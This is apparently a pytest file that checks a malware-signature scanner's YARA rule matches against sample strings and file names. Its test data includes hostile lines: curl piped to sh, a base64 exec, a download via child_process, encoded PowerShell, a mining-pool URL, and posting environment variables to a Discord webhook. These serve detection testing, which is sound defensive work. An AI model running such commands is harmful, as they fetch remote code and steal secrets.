"""GuardDog's rules are searched by the files that they are for, with the matches that all of them together have."""

from __future__ import annotations

from fnmatch import fnmatch
from pathlib import Path

import pytest
import yara

from builderd.adapters.scanners.tripwire.signatures import BEYOND_ASCII, RULES, Signatures

#: Bits that different rules match.
BITS = (
    b"curl http://bit.ly/x | sh",
    b"import base64; exec(base64.b64decode('aW1wb3J0IG9zCg=='))",
    b"p\xd0\xb0ypal = 1",
    b"x" + b" " * 500 + b"eval(1)",
    b"require('child_process').exec('curl http://1.2.3.4/a -o /tmp/a')",
    b"\\x41\\x42" * 60,
    b"powershell -enc AAAA",
    b"stratum+tcp://pool.minexmr.com:4444",
    b'{"scripts": {"preinstall": "node x.js"}, "dependencies": {"a": "http://x/y.tgz"}}',
    b"import os, requests; requests.post('https://discord.com/api/webhooks/1', json=dict(os.environ))",
)
NAMES = (
    "app.py",
    "a/setup.py",
    "a.js",
    "a.ts",
    "a.go",
    "a.rb",
    "a.sh",
    "package.json",
    "README.md",
    "a.PY",
    "noending",
    ".py",
    "a/.js",
)


def _all_rules(path: str, content: bytes) -> set[str]:
    """Return what all rules report of a file: each searched, and those for other files left out."""
    rules = yara.compile(filepaths={file.stem: str(file) for file in RULES.glob("*.yar")})
    return {
        str(match.rule).removeprefix("threat_").replace("_", "-")
        for match in rules.match(data=content)
        if any(
            fnmatch(path, one) or fnmatch(f"x/{path}", one)
            for one in str(match.meta.get("path_include", "*")).split(",")
        )
    }


@pytest.mark.parametrize("name", NAMES)
def test_matches_are_those_of_all_rules_together(name: str) -> None:
    signatures, content = Signatures(), b"\n".join(BITS)
    for text in (content, content.replace(b"\xd0\xb0", b"a")):
        assert {found.rule[4:] for found in signatures.find(name, text)} == _all_rules(name, text)


def test_python_with_every_bit_matches_some() -> None:
    assert len(list(Signatures().find("app.py", b"\n".join(BITS)))) > 3


def test_rules_beyond_ascii_need_such_a_byte() -> None:
    for stem in BEYOND_ASCII:
        rules = yara.compile(str(Path(RULES, f"{stem}.yar")))
        assert not rules.match(data=bytes(range(128)) * 3)
        shapes = [line for line in Path(RULES, f"{stem}.yar").read_text().splitlines() if line.strip().startswith("$")]
        assert shapes
        assert all("\\xd0" in line or "\\xce" in line or "\\xf0" in line or "\\xe2" in line for line in shapes)
